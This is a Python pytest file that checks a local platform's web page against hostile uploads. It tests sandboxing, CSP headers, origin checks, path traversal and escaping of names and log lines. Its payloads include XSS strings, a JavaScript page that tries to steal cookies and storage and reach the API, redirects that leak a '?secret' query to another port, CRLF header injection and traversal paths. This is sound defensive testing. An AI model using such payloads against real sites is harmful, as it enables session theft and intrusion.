"""What hostile pages, files, names and log lines can do to the platform's page: nothing."""

import http.client
import json
import random
import re
import socketserver
import string
import tempfile
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import dxpy
import pytest
import websocket
from playwright.sync_api import FrameLocator, expect

from local_platform.testing.local import LocalPlatform
from web_page import Tab

MakeApplet = Callable[..., dxpy.DXApplet]
SCRIPT = "<script>alert(1)</script>"
HOSTILE = f"{SCRIPT}<img src=x onerror=alert(1)>\n\"'&amp;"
FOREIGN = ["http://example.com", "null", "http://127.0.0.1:1", "https://127.0.0.1:{port}"]
THIEF = """<!doctype html><title>report</title><p id=name>report</p><ul></ul><script>
const attempts = {
  storage: () => sessionStorage.length,
  cookie: () => document.cookie,
  parent: () => parent === self ? Promise.reject() : parent.document.title,
  opener: () => opener.document.title,
  call: () => fetch("/system/whoami", {method: "POST", body: "{}"}).then(reply => reply.text()),
  page: () => fetch("/").then(reply => reply.text()),
  module: () => import("/web/api.js"),
  channel: () => new Promise((resolve, reject) => {
    const channel = new BroadcastChannel("local_platform");
    channel.onmessage = resolve;
    channel.postMessage("ask");
    setTimeout(reject, 500);
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(`ws://${location.host}/job-x/getLog/websocket`);
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  elsewhere: () => fetch("http://127.0.0.2/"),
  top: () => {
    if (top === self) throw "alone";
    top.location = "about:blank";
  },
};
for (const [name, attempt] of Object.entries(attempts)) {
  new Promise(resolve => resolve(attempt())).then(() => "reached", () => "refused").then(end => {
    document.querySelector("ul").append(Object.assign(document.createElement("li"),
      {textContent: `${name} ${end}`}));
  });
}
</script>"""
ATTEMPTS = 11


def upload(name: str, content: str, media: str, project: str) -> dxpy.DXFile:
    """Upload a small file of a media type."""
    return dxpy.upload_string(
        content, name=name, media_type=media, project=project, wait_on_close=True
    )


def get(platform: LocalPlatform, path: str, shown_in: str = "") -> tuple[int, dict[str, str]]:
    """Return the status and the headers with which a path is answered, in a frame say."""
    connection = http.client.HTTPConnection("127.0.0.1", int(platform.port))
    connection.request("GET", path, headers={"Sec-Fetch-Dest": shown_in} if shown_in else {})
    reply = connection.getresponse()
    connection.close()
    return reply.status, dict(reply.getheaders())


def test_hostile_html_reaches_neither_token_nor_api(
    open_tab: Callable[..., Tab], dx_platform: LocalPlatform, dx_project: str
) -> None:
    file = upload("report.html", THIEF, "text/html", dx_project)
    tab = open_tab()
    tab.open(f"/{file.get_id()}")
    tab.click("Open report.html")
    assert_refused(tab.page.frame_locator("iframe"))
    expect(tab.text("h1")).to_have_text("report.html")
    with tab.page.context.expect_page() as opened:
        tab.click("Open in a new tab", "link")
    assert_refused(opened.value.frame_locator("iframe"))
    assert tab.has_only_asked_the_platform()
    assert dx_platform.complaints() == ""


def assert_refused(report: FrameLocator) -> None:
    """Wait for the end of every attempt, and check that none reached anything."""
    expect(report.locator("#name")).to_have_text("report")
    expect(report.locator("li")).to_have_count(ATTEMPTS)
    ends = report.locator("li").all_inner_texts()
    assert [end for end in ends if not end.endswith(" refused")] == []


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[bytes]]]:
    """Listen on another port; give it, and what was sent there."""
    sent: list[bytes] = []

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            sent.append(self.rfile.readline())

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        # A browser may connect and say nothing.
        server.block_on_close = False
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever).start()
        yield server.server_address[1], sent
        server.shutdown()


@pytest.mark.parametrize(
    "leave",
    [
        "<script>location = '{url}'</script>",
        "<meta http-equiv=refresh content='0; {url}'>",
        "<a href='{url}'></a><script>document.querySelector('a').click()</script>",
        "<a download href='{url}'></a><script>document.querySelector('a').click()</script>",
        "<form action='{url}'></form><script>document.forms[0].submit()</script>",
    ],
)
@pytest.mark.parametrize("alone", [True, False], ids=["in its own tab", "in the page"])
def test_file_leads_the_browser_nowhere(
    open_tab: Callable[..., Tab],
    dx_project: str,
    elsewhere: tuple[int, list[bytes]],
    leave: str,
    alone: bool,
) -> None:
    port, sent = elsewhere
    content = leave.replace("{url}", f"http://127.0.0.1:{port}/?secret")
    file = upload("report.html", content, "text/html", dx_project)
    tab, refused = open_tab(), re.compile("violates|Blocked form submission")
    with tab.page.expect_event("console", lambda message: refused.search(message.text)):
        if alone:
            tab.page.goto(tab.origin + inline(file), wait_until="commit")
        else:
            tab.open(f"/{file.get_id()}")
            tab.click("Open report.html")
    assert sent == []


def test_file_is_an_origin_of_its_own_by_its_header_too(
    dx_platform: LocalPlatform, dx_project: str
) -> None:
    file = upload("report.html", "<p>", "text/html", dx_project)
    _, headers = get(dx_platform, inline(file), "iframe")
    policy = headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts allow-downloads;")
    assert "allow-same-origin" not in policy


def inline(file: dxpy.DXFile) -> str:
    """Return the path under which a browser shows a file."""
    url, _ = file.get_download_url(preauthenticated=True)
    return "/" + url.split("/", 3)[3] + "?inline"


@pytest.mark.parametrize(
    ("media", "shown"),
    [
        ("text/html", "text/html; charset=utf-8"),
        ("text/javascript", "text/plain; charset=utf-8"),
        ("text/html; x", "text/plain; charset=utf-8"),
        ("image/png", "image/png"),
        ("image/svg+xml", None),
        ("application/xhtml+xml", None),
        ("anything\r\nSet-Cookie: a=b", None),
    ],
)
def test_browser_shows_only_what_is_known_to_be_harmless_in_its_bounds(
    dx_platform: LocalPlatform, dx_project: str, media: str, shown: str | None
) -> None:
    file = upload("name", "content", media, dx_project)
    status, headers = get(dx_platform, inline(file), "iframe")
    assert status == 200
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Disposition"] == ("inline" if shown else "attachment")
    assert headers["Content-Type"] == (shown or "application/octet-stream")
    assert "Set-Cookie" not in headers


def test_file_is_for_keeping_unless_asked_for_otherwise(
    dx_platform: LocalPlatform, dx_project: str
) -> None:
    file = upload("report.html", "<p>", "text/html", dx_project)
    path = inline(file)
    for _, headers in (
        get(dx_platform, path.removesuffix("?inline"), "iframe"),
        get(dx_platform, path),
    ):
        assert headers["Content-Disposition"] == "attachment"
        assert headers["Content-Type"] == "application/octet-stream"


def test_page_is_served_with_its_bounds(dx_platform: LocalPlatform) -> None:
    status, headers = get(dx_platform, "/")
    policy = headers["Content-Security-Policy"]
    assert status == 200
    assert policy.startswith("default-src 'self';")
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"


@pytest.mark.parametrize(
    "path", ["/web/../access.py", "/web/%2e%2e/access.py", "/web/nothing.js", "/web/", "/access.py"]
)
def test_only_the_files_of_the_page_are_served(dx_platform: LocalPlatform, path: str) -> None:
    status, headers = get(dx_platform, path)
    assert status in (404, 405)
    assert headers["X-Content-Type-Options"] == "nosniff"


def test_absolute_path_does_not_lead_out_of_the_page(dx_platform: LocalPlatform) -> None:
    # A name of letters only, as those of the page's own files are.
    letters = "".join(random.choices(string.ascii_lowercase, k=12))
    secret = Path(tempfile.gettempdir(), letters + ".js")
    secret.write_text("secret")
    try:
        assert get(dx_platform, f"/web/{secret}")[0] in (404, 405)
    finally:
        secret.unlink()


@pytest.mark.parametrize("origin", FOREIGN)
def test_requests_of_foreign_pages_are_refused(dx_platform: LocalPlatform, origin: str) -> None:
    headers = {
        "Authorization": f"Bearer {dx_platform.token}",
        "Content-Type": "application/json",
        "Origin": origin.format(port=dx_platform.port),
    }
    connection = http.client.HTTPConnection("127.0.0.1", int(dx_platform.port))
    connection.request("POST", "/system/whoami", "{}", headers)
    reply = connection.getresponse()
    assert reply.status == 401
    assert json.load(reply)["error"]["type"] == "PermissionDenied"
    connection.request(
        "POST", "/system/whoami", "{}", headers | {"Origin": f"http://127.0.0.1:{dx_platform.port}"}
    )
    assert connection.getresponse().status == 200
    connection.close()


@pytest.mark.parametrize("origin", FOREIGN)
def test_sockets_of_foreign_pages_are_refused(dx_platform: LocalPlatform, origin: str) -> None:
    address = f"ws://127.0.0.1:{dx_platform.port}/job-x/getLog/websocket"
    with pytest.raises(websocket.WebSocketBadStatusException, match="401"):
        websocket.create_connection(address, origin=origin.format(port=dx_platform.port))


def test_page_cannot_be_framed(open_tab: Callable[..., Tab], dx_project: str) -> None:
    frame = "<iframe src='/'></iframe>"
    file = upload("frame.html", frame, "text/html", dx_project)
    tab = open_tab()
    tab.open(f"/{file.get_id()}")
    with tab.page.expect_event("console", lambda message: "frame" in message.text.lower()):
        tab.click("Open frame.html")


def test_token_leaves_the_address_and_is_sent_to_the_platform_only(
    open_tab: Callable[..., Tab], dx_platform: LocalPlatform
) -> None:
    tab = open_tab()
    sent: list[dict[str, str]] = []
    tab.page.on("request", lambda request: sent.append(request.all_headers()))
    tab.open("/jobs")
    assert tab.page.url == f"{tab.origin}/#/jobs"
    assert tab.page.evaluate("sessionStorage.length") == 1
    assert tab.page.evaluate("localStorage.length") == 0
    assert tab.has_only_asked_the_platform()
    assert not any("referer" in headers for headers in sent)
    bearers = [headers for headers in sent if dx_platform.token in str(headers)]
    assert bearers
    assert all(dx_platform.token in headers["authorization"] for headers in bearers)
    assert dx_platform.token not in dx_platform.complaints()


def test_names_and_log_lines_are_text_whatever_they_contain(
    tab: Tab, make_applet: MakeApplet, dx_project: str
) -> None:
    upload(HOSTILE, "text", "text/plain", dx_project)
    folder = "/" + SCRIPT.replace("/", "")
    dxpy.api.file_new({"project": dx_project, "folder": folder, "parents": True, "name": "inside"})
    spec = [
        {"name": "text", "class": "string", "label": HOSTILE, "help": HOSTILE, "group": HOSTILE},
        {"name": "file", "class": "file", "optional": True},
    ]
    applet = make_applet(
        'main() { echo "$text"; echo "$text" >&2; exit 1; }',
        "bash",
        name=HOSTILE,
        title=HOSTILE,
        summary=HOSTILE,
        inputSpec=spec,
        description=f"# {SCRIPT}\n{HOSTILE}\n\n[bad](javascript:alert(1)) ![seen](http://example.com/x)",
    )
    tab.open(f"/{dx_project}")
    expect(tab.page.get_by_role("link", name=SCRIPT)).to_have_count(2)
    tab.click(SCRIPT.replace("/", "") + "/", "link")
    expect(tab.page.get_by_role("link", name="inside")).to_be_visible()
    tab.open(f"/{applet.get_id()}")
    expect(tab.text("h1")).to_have_text(HOSTILE)
    tab.page.get_by_text("README", exact=True).click()
    expect(tab.text(".readme")).to_contain_text(SCRIPT)
    assert tab.page.locator(".readme a").count() == 0
    tab.click("Choose ...")
    expect(tab.page.get_by_role("dialog")).to_contain_text(SCRIPT)
    tab.page.get_by_role("dialog").get_by_role("button").filter(has_text=SCRIPT).click()
    tab.page.locator("#input_text").fill(HOSTILE)
    tab.click("Launch")
    tab.is_state("failed")
    expect(tab.text(".line").filter(has_text=SCRIPT)).to_have_count(2)
    expect(tab.text(".inputs_outputs")).to_contain_text(SCRIPT)
    tab.open("/jobs")
    expect(tab.page.get_by_role("link", name=SCRIPT)).to_be_visible()
    stage = {"id": "one", "name": HOSTILE, "executable": applet.get_id()}
    workflow = dxpy.new_dxworkflow(name=HOSTILE, stages=[stage])
    tab.open(f"/{workflow.get_id()}")
    expect(tab.text("legend").first).to_contain_text(f"Stage 0: {HOSTILE}")
    tab.open(f"/{workflow.run({'one.text': HOSTILE}).get_id()}")
    expect(tab.text(".tree a")).to_have_text(HOSTILE)
    assert tab.page.locator("script").count() == 1


def test_readme_is_rendered_without_what_it_may_not_hold(tab: Tab, make_applet: MakeApplet) -> None:
    text = (
        "# Title\n\n| a | b |\n|--:|---|\n| 1 | `2` |\n\n[out](https://example.com) [in](test/x)"
        " [down](#the-end-it-is)\n" + "\nline\n" * 60 + "\n## The end: it *is*\n"
    )
    tab.open(f"/{make_applet('', description=text).get_id()}")
    tab.page.get_by_text("README", exact=True).click()
    readme = tab.page.locator(".readme")
    expect(readme.get_by_role("cell", name="1")).to_have_attribute("align", "right")
    expect(readme.get_by_role("link")).to_have_text(["out", "down"])
    expect(readme.get_by_role("link", name="out")).to_have_attribute("rel", "noopener noreferrer")
    expect(readme.get_by_role("heading", name="The end")).not_to_be_in_viewport()
    tab.click("down", "link")
    expect(readme.get_by_role("heading", name="The end")).to_be_in_viewport()
